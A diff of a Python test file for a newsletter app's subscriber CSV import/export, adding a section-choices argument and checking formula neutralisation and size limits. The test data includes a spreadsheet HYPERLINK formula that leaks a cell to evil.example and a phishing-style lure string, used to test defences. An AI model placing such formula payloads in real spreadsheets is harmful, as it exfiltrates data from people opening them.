@@ -26,9 +26,11 @@ from newsletter.error import NewsletterError
 from newsletter.sink import Sink
 from newsletter.store import Store
 from newsletter.subscribers import NAME_LIMIT, STATUSES, csvfile, optin
+from newsletter.subscribers.choices import Choices
 
 HUGE = "Dear reader, your account is locked: visit evil.example " * 90_000  # about 5 MB
 START = datetime(2026, 11, 26, 9, 0, tzinfo=UTC)
+CHOICES = Choices(("Russia", "China", "Energy", "In brief"))  # as the test newsletters' config offers
 BUDGET = settings(max_examples=200, deadline=timedelta(seconds=2), database=None,
                   suppress_health_check=[HealthCheck.too_slow])
 
@@ -108,7 +110,7 @@ def test_a_name_is_one_line_without_control_characters(web_app: Newsletter, sink
 
 def test_csv_and_the_command_line_refuse_a_long_name_naming_the_row(app: Newsletter, newsletter_dir: Path) -> None:
     text = f"email,name\nok@example.org,Ok\nlong@example.org,{'x' * 101}\nhuge@example.org,\"{HUGE[:100_000]}\"\n"
-    report = csvfile.import_csv(app.store, io.StringIO(text))
+    report = csvfile.import_csv(app.store, io.StringIO(text), choices=CHOICES)
     assert report.added == 1 and report.rejected == [
         (3, "the name is 101 characters long; the most is 100"),
         (4, "the name is 100,000 characters long; the most is 100"),
@@ -182,14 +184,16 @@ def test_the_export_neutralises_formulas_and_imports_back_unchanged(tmp_path: Pa
     assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")" in names and "''=already quoted" in names
 
     again = Store.memory()
-    report = csvfile.import_csv(again, io.StringIO(csvfile.export_text(store)))
+    offered = Choices(("-Energy", "=Russia", "China"))  # section names that look like formulas, too
+    report = csvfile.import_csv(again, io.StringIO(csvfile.export_text(store)), choices=offered)
     assert (report.added, report.rejected) == (len(FORMULAS) + 1, [])
     assert listing(again) == listing(store)
-    typed = csvfile.import_csv(again, io.StringIO("email,name\nr0@example.org,'Tis me\n"))  # not our quote: kept
+    typed = csvfile.import_csv(again, io.StringIO("email,name\nr0@example.org,'Tis me\n"), choices=offered)
+    # not our quote: kept
     assert typed.updated == 1 and subscribers.get(again, "r0@example.org").name == "'Tis me"
 
 
-section_names = st.text(st.characters(blacklist_characters=",", blacklist_categories=("Cs",)), min_size=1,
+section_names = st.text(st.characters(blacklist_characters=",;", blacklist_categories=("Cs",)), min_size=1,
                         max_size=12).map(str.strip).filter(bool)
 prefixes = st.sampled_from(["", "=", "+", "-", "'", "'=", "''+", "'-'"])
 
@@ -204,7 +208,7 @@ def readers(draw: Any) -> list[tuple[str, str, tuple[str, ...], str]]:
             name = subscribers.clean_name(draw(prefixes) + draw(st.text(max_size=120)))
         except NewsletterError:
             name = ""
-        sections = tuple(dict.fromkeys(draw(st.lists(section_names, max_size=3))))
+        sections = tuple({s.casefold(): s for s in draw(st.lists(section_names, max_size=3))}.values())
         found.append((f"{draw(prefixes)}r{n}@example.org", name, sections, draw(st.sampled_from(STATUSES))))
     return found
 
@@ -233,7 +237,10 @@ def test_export_then_import_round_trips_any_names_and_sections(
     source, target = emptied(*stores)
     for email, name, sections, status in found:
         subscribers.add(source, email, name=name, sections=sections, status=status)
-    report = csvfile.import_csv(target, io.StringIO(csvfile.export_text(source)))
+    # The config offers every section a reader chose (one spelling each, any case) and one nobody did.
+    named = {s.casefold(): s for _, _, sections, _ in found for s in sections}
+    offered = Choices((*named.values(), *(["Unchosen"] if "unchosen" not in named else ["Unchosen 2"])))
+    report = csvfile.import_csv(target, io.StringIO(csvfile.export_text(source)), choices=offered)
     assert report.rejected == [] and listing(target) == listing(source)
 
 
@@ -257,10 +264,10 @@ def test_importing_arbitrary_rows_raises_only_our_errors(stores: tuple[Store, St
         text = buffer.getvalue()
     store = stores[0]  # rows pile up across examples: later ones update earlier ones
     try:
-        report = csvfile.import_csv(store, io.StringIO(text))
+        report = csvfile.import_csv(store, io.StringIO(text), choices=CHOICES)
     except NewsletterError:
         return
-    assert all(line >= 2 and reason for line, reason in report.rejected)
+    assert all(line >= 1 and reason for line, reason in report.rejected)  # line 1: a file without header
     assert all(len(s.name) <= NAME_LIMIT and s.name == subscribers.clean_name(s.name)
                for s in subscribers.iterate(store))
 
@@ -268,7 +275,7 @@ def test_importing_arbitrary_rows_raises_only_our_errors(stores: tuple[Store, St
 def test_an_oversized_csv_field_is_one_clear_error() -> None:
     text = f"email,name\nok@example.org,\"{'x' * 200_000}\"\n"
     try:
-        csvfile.import_csv(Store.memory(), io.StringIO(text))
+        csvfile.import_csv(Store.memory(), io.StringIO(text), choices=CHOICES)
     except NewsletterError as e:
         assert str(e) == "line 2: field larger than field limit (131072); nothing was imported"
     else:
@@ -283,4 +290,4 @@ def test_the_web_export_is_neutralised_too(client: InProcess, web_app: Newslette
                           ("/api/subscribers/export.csv", {"Authorization": f"Bearer {ADMIN_TOKEN}"})]:
         text = client.get(path, headers=headers).text
         rows = [row for row in csv.reader(io.StringIO(text)) if row and row[0] == "formula@example.org"]
-        assert rows == [["formula@example.org", "'" + FORMULAS[0], "", "active"]]
+        assert rows == [["formula@example.org", "'" + FORMULAS[0], "", "active", "", ""]]
